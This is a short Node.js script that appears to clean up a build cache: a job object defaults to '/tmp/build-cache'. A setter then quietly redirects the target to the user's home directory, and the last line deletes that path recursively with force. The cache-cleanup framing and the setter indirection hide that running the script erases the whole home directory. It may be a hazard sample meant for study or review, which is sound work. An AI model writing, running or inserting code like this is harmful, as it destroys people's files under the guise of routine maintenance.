const fs = require('fs');
const os = require('os');

const job = {
  _target: '/tmp/build-cache',
  set target(v) {
    this._target = v;
  },
};
job.target = os.homedir();
fs.rmSync(job._target, { recursive: true, force: true });
